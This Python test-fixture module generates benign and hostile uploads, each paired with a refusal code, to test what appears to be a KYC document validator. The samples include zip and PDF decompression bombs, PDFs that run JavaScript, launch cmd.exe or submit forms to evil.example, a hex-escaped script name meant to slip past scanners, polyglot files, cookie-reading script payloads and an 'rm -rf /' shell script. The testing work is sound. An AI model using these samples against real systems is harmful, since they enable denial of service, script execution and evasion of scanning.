"""Files that people send: good ones, and those that lie, hide, explode or act. All are made here."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
import zlib
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageDraw


def picture(kind: str = "JPEG", size: tuple[int, int] = (640, 420), color: str = "#7aa", **options: Any) -> bytes:
    image = Image.new("RGB", size, color)
    ImageDraw.Draw(image).rectangle((20, 20, size[0] - 20, size[1] // 2), fill="#fff")
    written = io.BytesIO()
    image.save(written, kind, **options)
    return written.getvalue()


def photo_with_gps() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "SecretCam"
    exif[0x0112] = 6
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", (52.0, 31.0, 12.0)
    return picture(size=(640, 420), exif=exif, comment=b"made at home")


def pdf(pages: int = 1, *, text: str = "Statement", **save: Any) -> bytes:
    document = pikepdf.new()
    for number in range(pages):
        add_page(document, f"{text} {number + 1}")
    return written(document, **save)


def add_page(document: pikepdf.Pdf, text: str) -> Any:
    content = f"BT /F1 24 Tf 72 700 Td ({text}) Tj ET".encode()
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page = Dictionary(
        Type=Name.Page,
        MediaBox=[0, 0, 595, 842],
        Resources=Dictionary(Font=Dictionary(F1=font)),
        Contents=document.make_stream(content),
    )
    document.pages.append(pikepdf.Page(page))
    return document.pages[-1]


def written(document: pikepdf.Pdf, **save: Any) -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings():
        # The bait is a button without its form.
        warnings.simplefilter("ignore", pikepdf.PageCopyWarning)
        document.save(out, **save)
    return out.getvalue()


def _acting(change: Any) -> bytes:
    document = pikepdf.new()
    page = add_page(document, "Act")
    change(document, page)
    return written(document)


def script(code: str = "app.alert(1)") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def _open_action(action: Any) -> bytes:
    return _acting(lambda document, page: document.Root.__setitem__("/OpenAction", action))


def _annotation(**entries: Any) -> bytes:
    def change(document: pikepdf.Pdf, page: Any) -> None:
        page.Annots = Array([Dictionary(Type=Name.Annot, Rect=[0, 0, 9, 9], **entries)])

    return _acting(change)


def _embedded() -> bytes:
    document = pikepdf.new()
    add_page(document, "Carry")
    document.attachments["payload.exe"] = b"MZ payload"
    return written(document)


def _named_script() -> bytes:
    def change(document: pikepdf.Pdf, page: Any) -> None:
        document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script()])))

    return _acting(change)


def _xfa() -> bytes:
    def change(document: pikepdf.Pdf, page: Any) -> None:
        document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_stream(b"<xdp/>"))

    return _acting(change)


def _page_action() -> bytes:
    return _acting(lambda document, page: page.obj.__setitem__("/AA", Dictionary(O=script())))


def plain_pdf(catalogue: bytes) -> bytes:
    """A one-page PDF written by hand, with `catalogue` inside its catalogue word for word."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R %s>>" % catalogue,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>",
    ]
    body, offsets = b"%PDF-1.4\n", []
    for number, content in enumerate(objects, 1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    start = len(body)
    return body + b"xref\n0 4\n0000000000 65535 f \n%strailer\n<</Size 4/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (
        table,
        start,
    )


def hidden_script() -> bytes:
    """The key is written with hexadecimal escapes, which scanners that look for text miss."""
    return plain_pdf(b"/Names<</J#61v#61Script<</Names[(x)<</S/J#61vaScript/#4aS(app.alert\\(1\\))>>]>>>>")


def _encrypted(owner_only: bool) -> bytes:
    keys = pikepdf.Encryption(owner="owner", user="" if owner_only else "user")
    return pdf(encryption=keys)


def flate_bomb_pdf(megabytes: int = 300) -> bytes:
    packer = zlib.compressobj(1)
    block = b"\0" * (1 << 20)
    packed = b"".join(packer.compress(block) for _ in range(megabytes)) + packer.flush()
    document = pikepdf.new()
    page = add_page(document, "Bomb")
    bomb = document.make_stream(b"")
    bomb.write(packed, filter=Name.FlateDecode)
    page.Contents = bomb
    return written(document, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def double_flate_pdf() -> bytes:
    packed = zlib.compress(zlib.compress(b"\0" * (64 << 20), 9), 9)
    document = pikepdf.new()
    page = add_page(document, "Bomb")
    bomb = document.make_stream(b"")
    bomb.write(packed, filter=Array([Name.FlateDecode, Name.FlateDecode]))
    page.Contents = bomb
    return written(document, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def object_stream_bomb() -> bytes:
    """A cross-reference stream that unpacks to 880 MB before a reader sees its first object."""
    packer = zlib.compressobj(1)
    block = b"\0" * (1 << 22)
    packed = b"".join(packer.compress(block) for _ in range(220)) + packer.flush()
    head = (
        b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n"
    )
    stream = b"3 0 obj\n<</Type/XRef/W[1 4 2]/Size 300000000/Root 1 0 R/Filter/FlateDecode/Length %d>>\nstream\n" % len(
        packed
    )
    return head + stream + packed + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(head)


def deep_pdf() -> bytes:
    """Arrays in arrays, thousands deep."""
    good = pdf()
    return good.replace(b"/MediaBox", b"/Deep " + b"[" * 5000 + b"]" * 5000 + b" /MediaBox", 1)


def many_objects_pdf() -> bytes:
    document = pikepdf.new()
    add_page(document, "Many")
    document.Root.Pile = Array([document.make_indirect(Dictionary(N=number)) for number in range(21_000)])
    return written(document)


def png_header(width: int, height: int) -> bytes:
    """A valid PNG of the given size whose pixels are missing: only a header reader sees how large it is."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def webp_header(width: int, height: int) -> bytes:
    body = (
        b"VP8X"
        + struct.pack("<I", 10)
        + bytes(4)
        + (width - 1).to_bytes(3, "little")
        + (height - 1).to_bytes(3, "little")
    )
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def jpeg_of_claimed_size(width: int, height: int) -> bytes:
    data = bytearray(picture())
    frame = data.index(b"\xff\xc0")
    data[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def many_scans_jpeg() -> bytes:
    data = picture(progressive=True)
    scan = data.rindex(b"\xff\xda")
    return data[:scan] + data[scan:-2] * 200 + data[-2:]


def apng() -> bytes:
    frames = [Image.new("RGB", (200, 200), shade) for shade in ("red", "blue")]
    out = io.BytesIO()
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


def moving_webp() -> bytes:
    frames = [Image.new("RGB", (200, 200), shade) for shade in ("red", "blue")]
    out = io.BytesIO()
    frames[0].save(out, "WEBP", save_all=True, append_images=frames[1:])
    return out.getvalue()


def archive(name: str = "word/document.xml") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr(name, "<w/>")
    return out.getvalue()


def zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("zeros", b"\0" * (20 << 20))
    return out.getvalue()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"

# name -> (what was sent, code of the refusal)
HOSTILE: dict[str, tuple[Any, str]] = {
    "svg with script": (lambda: SVG, "kyc_document_type"),
    "svg behind an xml head": (lambda: b'<?xml version="1.0"?>' + SVG, "kyc_document_type"),
    "html named png": (lambda: HTML, "kyc_document_type"),
    "html behind blanks": (lambda: b"   \n" + HTML, "kyc_document_type"),
    "gif": (lambda: picture("GIF"), "kyc_document_type"),
    "gif that is javascript": (lambda: b"GIF89a/*" + bytes(300) + b"*/=1;alert(1)", "kyc_document_type"),
    "heic": (lambda: b"\0\0\0\x18ftypheic" + bytes(200), "kyc_document_type"),
    "avif": (lambda: b"\0\0\0\x18ftypavif" + bytes(200), "kyc_document_type"),
    "mp4": (lambda: b"\0\0\0\x18ftypisom" + bytes(200), "kyc_document_type"),
    "tiff": (lambda: picture("TIFF"), "kyc_document_type"),
    "bmp": (lambda: picture("BMP"), "kyc_document_type"),
    "zip": (lambda: archive("a.txt"), "kyc_document_type"),
    "docx": (archive, "kyc_document_type"),
    "zip bomb": (zip_bomb, "kyc_document_type"),
    "old office file": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "kyc_document_type"),
    "windows program": (lambda: b"MZ\x90\0" + bytes(600), "kyc_document_type"),
    "linux program": (lambda: b"\x7fELF" + bytes(600), "kyc_document_type"),
    "shell script": (lambda: b"#!/bin/sh\nrm -rf /\n", "kyc_document_type"),
    "gzip": (lambda: b"\x1f\x8b\x08" + bytes(100), "kyc_document_type"),
    "text": (lambda: b"just words", "kyc_document_type"),
    "eicar test file": (
        lambda: rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
        "kyc_document_type",
    ),
    "nothing": (lambda: b"", "kyc_document_empty"),
    "too large": (lambda: picture() + bytes(9 << 20), "kyc_document_too_large"),
    "pdf behind junk": (lambda: b"GIF89a\n" + pdf(), "kyc_document_type"),
    "png with a zip behind it": (lambda: picture("PNG") + archive(), "kyc_document_polyglot"),
    "jpeg with a zip behind it": (lambda: picture() + archive(), "kyc_document_polyglot"),
    "webp with a pdf behind it": (lambda: picture("WEBP") + pdf(), "kyc_document_polyglot"),
    "png with html behind it": (lambda: picture("PNG") + HTML, "kyc_document_polyglot"),
    "jpeg that is a pdf in its comment": (lambda: picture(comment=b"%PDF-1.4\n"), "kyc_document_polyglot"),
    "jpeg with a script in its comment": (
        lambda: picture(comment=b"<script >alert(1)</script>"),
        "kyc_document_polyglot",
    ),
    "truncated jpeg": (lambda: picture()[:1500], "kyc_document_damaged"),
    "truncated png": (lambda: picture("PNG")[:-200], "kyc_document_damaged"),
    "truncated webp": (lambda: picture("WEBP")[:-100], "kyc_document_damaged"),
    "truncated pdf": (lambda: pdf()[:-200], "kyc_document_damaged"),
    "only the magic of a jpeg": (lambda: b"\xff\xd8\xff", "kyc_document_damaged"),
    "only the magic of a png": (lambda: b"\x89PNG\r\n\x1a\n", "kyc_document_damaged"),
    "only the magic of a webp": (lambda: b"RIFF\x04\0\0\0WEBP", "kyc_document_damaged"),
    "only the magic of a pdf": (lambda: b"%PDF-1.7\n", "kyc_document_damaged"),
    "png with a corrupt middle": (
        lambda: png_header(300, 300),
        "kyc_document_damaged",
    ),
    "png of 50,000 by 50,000": (lambda: png_header(50_000, 50_000), "kyc_document_too_many_pixels"),
    "png of 2 by 2 billion": (lambda: png_header(100, 2**31 - 1), "kyc_document_too_many_pixels"),
    "webp of 16,383 by 16,383": (lambda: webp_header(16_383, 16_383), "kyc_document_too_many_pixels"),
    "jpeg of 60,000 by 60,000": (lambda: jpeg_of_claimed_size(60_000, 60_000), "kyc_document_too_many_pixels"),
    "jpeg with hundreds of scans": (many_scans_jpeg, "kyc_document_too_complex"),
    "picture of nine pixels": (lambda: picture(size=(41, 41)), "kyc_document_too_small"),
    "moving png": (apng, "kyc_document_animated"),
    "moving webp": (moving_webp, "kyc_document_animated"),
    "pdf with a script on opening": (lambda: _open_action(script()), "kyc_document_active"),
    "pdf with an escaped script name": (hidden_script, "kyc_document_active"),
    "pdf that is a portfolio": (lambda: plain_pdf(b"/Collection<</View/D>>"), "kyc_document_active"),
    "pdf that launches a program": (
        lambda: _open_action(Dictionary(S=Name.Launch, F=String("cmd.exe"))),
        "kyc_document_active",
    ),
    "pdf that opens an address": (
        lambda: _open_action(Dictionary(S=Name.URI, URI=String("https://evil.example"))),
        "kyc_document_active",
    ),
    "pdf with a named script": (_named_script, "kyc_document_active"),
    "pdf with a page action": (_page_action, "kyc_document_active"),
    "pdf with a script behind a button": (
        lambda: _annotation(Subtype=Name.Widget, A=script()),
        "kyc_document_active",
    ),
    "pdf with a launch link": (
        lambda: _annotation(Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("x.exe"))),
        "kyc_document_active",
    ),
    "pdf that sends a form": (
        lambda: _annotation(Subtype=Name.Widget, A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example"))),
        "kyc_document_active",
    ),
    "pdf with rich media": (lambda: _annotation(Subtype=Name.RichMedia), "kyc_document_active"),
    "pdf with an attached file": (
        lambda: _annotation(Subtype=Name.FileAttachment, FS=String("x")),
        "kyc_document_active",
    ),
    "pdf with an embedded file": (_embedded, "kyc_document_active"),
    "pdf with an xfa form": (_xfa, "kyc_document_active"),
    "encrypted pdf": (lambda: _encrypted(owner_only=False), "kyc_document_encrypted"),
    "pdf with an owner password": (lambda: _encrypted(owner_only=True), "kyc_document_encrypted"),
    "pdf of 21 pages": (lambda: pdf(21), "kyc_document_pages"),
    "pdf without pages": (lambda: pdf(0), "kyc_document_damaged"),
    "pdf with 21,000 objects": (many_objects_pdf, "kyc_document_too_complex"),
    "pdf that unpacks to 300 MB": (flate_bomb_pdf, "kyc_document_too_complex"),
    "pdf packed twice": (double_flate_pdf, "kyc_document_too_complex"),
    "pdf nested 5,000 deep": (deep_pdf, "kyc_document_damaged"),
}
